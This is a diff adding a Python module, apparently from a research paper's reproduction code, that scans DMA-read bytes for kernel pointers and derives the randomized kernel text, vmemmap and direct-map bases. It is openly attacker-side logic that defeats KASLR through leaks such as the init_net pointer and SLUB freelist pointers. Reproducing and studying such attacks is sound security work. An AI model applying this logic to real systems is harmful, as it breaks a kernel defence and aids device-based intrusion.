@@ -1,0 +1,154 @@
+"""Attacker-side pointer-leak scanning and KASLR recovery (section 2.4).
+
+Everything in this module uses only information a malicious device can
+obtain: bytes it read via DMA, the architectural layout ranges of
+Table 1, and the KASLR alignment invariants (text slides keep the low
+21 bits, direct-map/vmemmap slides keep the low 30 bits).
+
+The headline recovery of the paper is the ``init_net`` leak: every
+network namespace object (notably sockets) points at ``init_net``, a
+symbol at a known offset inside the kernel image, so one leaked pointer
+whose low 21 bits match that offset yields the text base.
+"""
+
+from __future__ import annotations
+
+import struct
+from collections import Counter
+from dataclasses import dataclass
+
+from repro.kaslr.layout import Region, STRUCT_PAGE_SIZE, region, region_of
+from repro.kaslr.randomize import (BASE_ALIGN_BITS, KERNEL_IMAGE_SIZE,
+                                   TEXT_ALIGN_BITS)
+from repro.mem.phys import PAGE_SHIFT, PAGE_SIZE
+
+_U64 = struct.Struct("<Q")
+
+TEXT_LOW_MASK = (1 << TEXT_ALIGN_BITS) - 1    # invariant low 21 bits
+BASE_LOW_MASK = (1 << BASE_ALIGN_BITS) - 1    # invariant low 30 bits
+
+
+@dataclass(frozen=True)
+class PointerLeak:
+    """One kernel pointer found in DMA-readable bytes."""
+
+    offset: int          # byte offset within the scanned buffer
+    value: int
+    region: Region
+
+    def __str__(self) -> str:
+        return f"+{self.offset:#06x}: {self.value:#018x} ({self.region.name})"
+
+
+class LeakScanner:
+    """Scans raw bytes for kernel pointers and recovers KASLR bases."""
+
+    def __init__(self, *, alignment: int = 8) -> None:
+        if alignment not in (1, 2, 4, 8):
+            raise ValueError(f"bad scan alignment {alignment}")
+        self._alignment = alignment
+
+    def scan(self, data: bytes, *, base_offset: int = 0) -> list[PointerLeak]:
+        """All aligned u64 values in *data* that land in a layout region."""
+        leaks: list[PointerLeak] = []
+        for off in range(0, len(data) - 7, self._alignment):
+            value = _U64.unpack_from(data, off)[0]
+            reg = region_of(value)
+            if reg is not None:
+                leaks.append(PointerLeak(base_offset + off, value, reg))
+        return leaks
+
+    # -- text base / init_net (breaks text KASLR) ---------------------------
+
+    def text_base_candidates(self, leaks: list[PointerLeak],
+                             symbol_image_offset: int) -> list[int]:
+        """Text bases implied by leaked pointers matching a known symbol.
+
+        A pointer to the image symbol at *symbol_image_offset* satisfies
+        ``ptr & 0x1fffff == offset & 0x1fffff`` because the text base is
+        2 MiB aligned; each match implies ``text_base = ptr - offset``.
+        """
+        text_region = region("kernel_text")
+        candidates = []
+        for leak in leaks:
+            if leak.region.name != "kernel_text":
+                continue
+            if (leak.value & TEXT_LOW_MASK) != (symbol_image_offset
+                                                & TEXT_LOW_MASK):
+                continue
+            base = leak.value - symbol_image_offset
+            if (base & TEXT_LOW_MASK) == 0 and text_region.contains(base) \
+                    and base + KERNEL_IMAGE_SIZE <= text_region.end + 1:
+                candidates.append(base)
+        return candidates
+
+    def recover_text_base(self, leaks: list[PointerLeak],
+                          symbol_image_offset: int) -> int | None:
+        """Most frequent text-base candidate, or None if nothing matched."""
+        candidates = self.text_base_candidates(leaks, symbol_image_offset)
+        if not candidates:
+            return None
+        return Counter(candidates).most_common(1)[0][0]
+
+    # -- vmemmap base (struct page pointers -> PFNs) -------------------------
+
+    def recover_vmemmap_base(self, struct_page_ptr: int) -> int:
+        """vmemmap base implied by one struct page pointer.
+
+        Valid whenever ``pfn * sizeof(struct page)`` is below the 1 GiB
+        alignment of the base -- i.e. on machines with at most 64 GiB of
+        RAM -- because then rounding the pointer down to 1 GiB recovers
+        the base exactly.
+        """
+        return struct_page_ptr & ~BASE_LOW_MASK
+
+    def pfn_of_leaked_struct_page(self, struct_page_ptr: int,
+                                  vmemmap_base: int | None = None) -> int:
+        base = (self.recover_vmemmap_base(struct_page_ptr)
+                if vmemmap_base is None else vmemmap_base)
+        return (struct_page_ptr - base) // STRUCT_PAGE_SIZE
+
+    def recover_bases_from_direct_map_leak(
+            self, kva: int) -> tuple[int, int]:
+        """(page_offset_base, pfn) implied by one direct-map KVA.
+
+        Section 2.4: the direct-map base is 1 GiB aligned, so "the lower
+        30 bits are unmodified and can leak both the PFN and the
+        randomized offset". Exact whenever the backing physical address
+        is below 1 GiB -- true for all of RAM on a <=1 GiB machine and
+        for the low-memory allocations early boot hands to slabs.
+        """
+        base = kva & ~BASE_LOW_MASK
+        paddr = kva & BASE_LOW_MASK
+        return base, paddr >> PAGE_SHIFT
+
+    # -- page_offset_base (direct-map KVA arithmetic) -------------------------
+
+    def page_offset_base_from_pair(self, pfn: int, same_page_kva: int) -> int:
+        """Base implied by a KVA known to point into frame *pfn*.
+
+        The low 12 bits of the KVA are the in-page offset, so
+        ``base = (kva & ~0xfff) - (pfn << 12)``. The pair typically comes
+        from a SLUB freelist pointer (a KVA of an object on the very page
+        it is stored in) next to a struct-page leak for the same page.
+        """
+        return (same_page_kva & ~(PAGE_SIZE - 1)) - (pfn << PAGE_SHIFT)
+
+    def recover_page_offset_base(
+            self, pairs: list[tuple[int, int]]) -> int | None:
+        """Majority-vote base recovery from (pfn_guess, kva) pairs.
+
+        Wrong PFN guesses almost never produce a 1 GiB-aligned candidate
+        inside the direct-map region, so alignment filtering plus voting
+        is robust even when most guesses are bad (RingFlood, section 5.3).
+        """
+        dm_region = region("direct_map")
+        votes: Counter[int] = Counter()
+        for pfn, kva in pairs:
+            candidate = self.page_offset_base_from_pair(pfn, kva)
+            if (candidate & BASE_LOW_MASK) == 0 and \
+                    dm_region.contains(candidate):
+                votes[candidate] += 1
+        if not votes:
+            return None
+        return votes.most_common(1)[0][0]
